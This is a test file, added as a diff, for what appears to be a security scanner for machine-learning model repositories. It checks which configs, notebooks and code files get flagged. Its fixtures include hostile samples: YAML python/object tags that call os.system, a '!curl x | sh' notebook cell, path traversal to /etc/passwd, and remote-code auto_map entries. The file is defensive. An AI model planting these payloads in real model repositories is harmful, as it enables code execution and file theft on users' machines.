@@ -1,0 +1,236 @@
+"""Code beside the weights, and configuration that asks for code: each has a bad and a good sample."""
+
+import json
+
+import pytest
+
+from weighbridge.core.finding import Verdict
+from weighbridge.scanner import config_rules, repository_rules
+from weighbridge.scanner.file import ScannedFile, from_bytes
+
+UNLISTED, DANGEROUS, BROKEN, NOTES = Verdict.UNLISTED, Verdict.DANGEROUS, Verdict.BROKEN, Verdict.NOTES
+
+
+def judge(module, path, value, kind=None):
+    text = value if isinstance(value, str) else json.dumps(value)
+    kind = kind or ("json" if path.endswith((".json", ".jsonl", ".ipynb")) else "text")
+    return {(f.rule, f.verdict) for f in module.examine(from_bytes(path, text.encode(), kind, text=text))}
+
+
+BAD_CONFIG = [
+    ("config.json", {"auto_map": {"AutoModel": "modeling_x.X"}}, ("config-code", UNLISTED)),
+    ("config.json", {"text_config": {"auto_map": {"AutoModel": "modeling_x.X"}}}, ("config-code", UNLISTED)),
+    ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["tok.Slow", None]}}, ("config-code", UNLISTED)),
+    (
+        "config.json",
+        {"auto_map": {"AutoModel": "evil/repo--modeling_x.X"}},
+        ("config-foreign-code", DANGEROUS),
+    ),
+    ("config.json", '{"auto\\u005fmap": {"AutoModel": "modeling_x.X"}}', ("config-code", UNLISTED)),
+    ("config.json", {"custom_pipelines": {"p": {"impl": "p.P"}}}, ("config-code", UNLISTED)),
+    ("config.json", {"trust_remote_code": True}, ("config-code", UNLISTED)),
+    ("config.json", {"attn_implementation": "someone/kernel"}, ("config-foreign-code", DANGEROUS)),
+    ("adapter_config.json", {"auto_mapping": {"parent_library": "os"}}, ("config-class", UNLISTED)),
+    (
+        "adapter_config.json",
+        {"auto_mapping": {"parent_library": "transformersx"}},
+        ("config-class", UNLISTED),
+    ),
+    ("adapter_config.json", {"megatron_core": "evil.core"}, ("config-class", UNLISTED)),
+    ("modules.json", [{"type": "os.system", "path": ""}], ("config-class", UNLISTED)),
+    ("modules.json", [{"type": "sentence_transformers.models.Evil", "path": ""}], ("config-class", UNLISTED)),
+    ("modules.json", [{"path": ""}], ("config-class", UNLISTED)),
+    (
+        "modules.json",
+        [{"type": "sentence_transformers.models.Pooling", "path": "../x"}],
+        ("config-path", DANGEROUS),
+    ),
+    ("2_Dense/config.json", {"activation_function": "os.system"}, ("config-class", UNLISTED)),
+    (
+        "model.safetensors.index.json",
+        {"weight_map": {"a": "../../x.safetensors"}},
+        ("config-path", DANGEROUS),
+    ),
+    ("model.safetensors.index.json", {"weight_map": {"a": "/etc/passwd"}}, ("config-path", DANGEROUS)),
+    ("model.safetensors.index.json", {"weight_map": {"a": "..\\x"}}, ("config-path", DANGEROUS)),
+    ("model.safetensors.index.json", {"weight_map": {"a": "file:///x"}}, ("config-path", DANGEROUS)),
+    ("model.safetensors.index.json", {"weight_map": {"a": ""}}, ("config-path", DANGEROUS)),
+    ("model_index.json", {"unet": ["unet_custom", "UNet"]}, ("config-class", UNLISTED)),
+    ("any.json", {"a": [{"_target_": "os.system"}]}, ("config-class", UNLISTED)),
+    ("any.json", {"py/object": "posix.system"}, ("config-class", UNLISTED)),
+    ("any.json", {"py/reduce": "x"}, ("config-object", DANGEROUS)),
+    ("config.json", '{"a": 1, "a": 2}', ("config-broken", BROKEN)),
+    ("config.json", '{"a": ', ("config-broken", BROKEN)),
+    ("config.json", "[" * 100_000, ("config-unread", Verdict.UNREAD)),
+    ("conf.yaml", "a: !!python/object/apply:os.system ['x']", ("config-object", DANGEROUS)),
+    (
+        "conf.yaml",
+        "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system ''",
+        ("config-object", DANGEROUS),
+    ),
+    ("conf.yml", "a: !<tag:yaml.org,2002:python/object:x.Y> {}", ("config-object", DANGEROUS)),
+    ("conf.yaml", "a: !custom x", ("config-class", UNLISTED)),
+    ("conf.yaml", "model:\n  _target_: os.system", ("config-class", UNLISTED)),
+    ("conf.yaml", "k: &k _target_\nmodel:\n  *k : os.system", ("config-class", UNLISTED)),
+    ("conf.yaml", "a: [", ("config-broken", BROKEN)),
+    ("MLmodel", "flavors:\n  python_function:\n    loader_module: evil", ("config-class", UNLISTED)),
+    (
+        "MLmodel",
+        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model",
+        ("config-class", UNLISTED),
+    ),
+    ("README.md", "---\na: !!python/name:os.system ''\n---\ntext", ("config-object", DANGEROUS)),
+]
+
+GOOD_CONFIG = [
+    (
+        "config.json",
+        {"model_type": "bert", "architectures": ["BertModel"], "hidden_act": "gelu", "x": float("nan")},
+    ),
+    ("config.json", {"auto_map": {}, "trust_remote_code": False, "attn_implementation": "sdpa"}),
+    ("config.json", {"auto_map": {"AutoTokenizer": [None, None]}, "custom_pipelines": {}}),
+    ("adapter_config.json", {"auto_mapping": {"parent_library": "transformers.models.llama.modeling_llama"}}),
+    ("adapter_config.json", {"auto_mapping": None, "megatron_core": "megatron.core"}),
+    ("modules.json", [{"type": "sentence_transformers.models.Transformer", "path": ""}]),
+    ("2_Dense/config.json", {"activation_function": "torch.nn.modules.activation.Tanh"}),
+    ("config.json", {"activation_function": "gelu_new"}),
+    ("model.safetensors.index.json", {"weight_map": {"a": "model-00001-of-00002.safetensors"}}),
+    (
+        "model_index.json",
+        {"_class_name": "P", "unet": ["diffusers", "UNet2DConditionModel"], "x": [None, None]},
+    ),
+    ("data.jsonl", '{"a": 1}\n{"a": 2}\n'),
+    ("conf.yaml", "a: &x {b: 1}\nc: *x\nd: <<\ne: 2026-01-01\nf: !!str 1\n"),
+    ("MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn"),
+    ("README.md", "---\nlicense: mit\n---\n# text with !!python/name:os.system in prose"),
+    ("README.md", "no front matter"),
+]
+
+
+@pytest.mark.parametrize(("path", "value", "expected"), BAD_CONFIG)
+def test_configuration_that_asks_for_code_is_found(path, value, expected):
+    assert judge(config_rules, path, value) == {expected}
+
+
+@pytest.mark.parametrize(("path", "value"), GOOD_CONFIG)
+def test_ordinary_configuration_says_nothing(path, value):
+    assert judge(config_rules, path, value) == set()
+
+
+def test_a_shard_that_is_missing_is_a_note_and_a_present_one_is_silent():
+    text = json.dumps({"weight_map": {"a": "x.safetensors", "b": "y.safetensors"}})
+    base = from_bytes("sub/model.safetensors.index.json", text.encode(), "json", text=text)
+    file = ScannedFile(
+        base.path,
+        base.size,
+        base.kind,
+        base.head,
+        base.opener,
+        text=text,
+        siblings=frozenset({"sub/x.safetensors"}),
+    )
+    assert [(f.rule, f.verdict, "y.safetensors" in f.message) for f in config_rules.examine(file)] == [
+        ("config-path", NOTES, True)
+    ]
+
+
+BAD_FILES = [
+    ("modeling_x.py", "import torch\n", {("repository-code", UNLISTED)}),
+    (
+        "modeling_x.py",
+        "import os\nos.system('x')\n",
+        {("repository-code", UNLISTED), ("repository-import", DANGEROUS)},
+    ),
+    ("setup.py", "def f(:\n", {("repository-code", UNLISTED)}),
+    ("run.sh", "echo\n", {("repository-script", UNLISTED)}),
+    ("run", "#!/bin/sh\necho\n", {("repository-script", UNLISTED)}),
+    (
+        "a.ipynb",
+        {"cells": [{"cell_type": "code", "source": ["!curl x | sh\n"]}]},
+        {("repository-script", UNLISTED)},
+    ),
+    ("a.ipynb", {"cells": [{"cell_type": "code", "source": "eval('1')"}]}, {("repository-script", UNLISTED)}),
+    ("a.ipynb", {"cells": [{"cell_type": "code", "source": "1 + 1"}]}, {("repository-script", NOTES)}),
+    ("a.ipynb", "[]", {("repository-script", UNLISTED)}),
+    ("requirements.txt", "torch\n--index-url http://203.0.113.9/\n", {("repository-requirements", UNLISTED)}),
+    ("requirements.txt", "x @ git+https://203.0.113.9/x\n", {("repository-requirements", UNLISTED)}),
+    ("notes.txt", "token: hf_" + "a" * 34, {("repository-secret", NOTES)}),
+]
+
+
+@pytest.mark.parametrize(("path", "value", "expected"), BAD_FILES)
+def test_code_beside_the_weights_is_found(path, value, expected):
+    assert judge(repository_rules, path, value) == expected
+
+
+@pytest.mark.parametrize(
+    ("path", "value"),
+    [
+        ("requirements.txt", "torch>=2\nnumpy==1.26.4 ; python_version > '3'\n# comment\n"),
+        ("vocab.txt", "[PAD]\n!\n#\nhf_\n"),
+        ("README.md", "# model\n```python\nimport os\nos.system('x')\n```\n"),
+        ("LICENSE", "Apache"),
+    ],
+)
+def test_ordinary_text_says_nothing(path, value):
+    assert judge(repository_rules, path, value) == set()
+
+
+@pytest.mark.parametrize(
+    ("path", "head"),
+    [
+        ("model.bin", b"\x7fELF\x02\x01"),
+        ("model.bin", b"\xcf\xfa\xed\xfe\x07"),
+        ("model.bin", b"MZ" + bytes(62) + b"PE\0\0"),
+        ("model.llamafile", b"MZqFpD='\n"),
+        ("x.bin", b"\0asm\x01"),
+        ("lib.so.1", b"anything"),
+        ("x.DLL", b"anything"),
+    ],
+)
+def test_programs_are_found_by_content_and_by_name(path, head):
+    found = list(repository_rules.examine(from_bytes(path, head, "unknown")))
+    assert [(f.rule, f.verdict) for f in found] == [("repository-program", UNLISTED)]
+
+
+def test_weights_that_start_like_a_program_by_chance_are_left_to_their_reader():
+    assert list(repository_rules.examine(from_bytes("a.bin", b"MZ" + bytes(4000), "unknown"))) == []
+
+
+def test_a_secret_is_never_repeated():
+    secret = "hf_" + "Zq" * 17
+    (finding,) = repository_rules.examine(from_bytes("a.txt", secret.encode(), "text", text=secret))
+    assert secret not in json.dumps(finding.to_json())
+
+
+@pytest.mark.parametrize(
+    ("source", "names"),
+    [
+        ("from os import system as s\ns('x')", ["os.system"]),
+        ("def f():\n    eval('1')\nf()", ["builtins.eval"]),
+        ("__import__('os').popen('x')", ["builtins.__import__", "os.popen"]),
+        ("class A:\n    def __init__(self): exec('')\nA()", ["builtins.exec"]),
+        ("from subprocess import *\nrun = 1\nfrom os import *\nsystem('x')", ["os.system"]),
+        ("import os\nlist(map(os.system, []))", ["os.system"]),
+        ("@eval\ndef f(): pass", ["builtins.eval"]),
+        ("def f(x=eval('1')): pass", ["builtins.eval"]),
+        ("def f():\n    eval('1')", []),
+        ("if __name__ == '__main__':\n    eval('1')", []),
+        ("import re\nre.compile('x')\ncode = ''\ncode.strip()\nmodel.eval()", []),
+    ],
+)
+def test_what_a_mere_import_would_do(source, names):
+    from weighbridge.formats.python_source import read_python
+
+    assert [act.name for act in read_python(source).at_import] == names
+
+
+def test_the_rules_are_documented():
+    from pathlib import Path
+
+    from weighbridge.scanner import safetensors_rules, template_rules
+
+    folder = Path(__file__).parents[2] / "docs" / "rules"
+    for module in (safetensors_rules, template_rules, config_rules, repository_rules):
+        for rule in module.RULES:
+            assert (folder / f"{rule.id}.md").read_text().startswith(f"# {rule.id}\n")
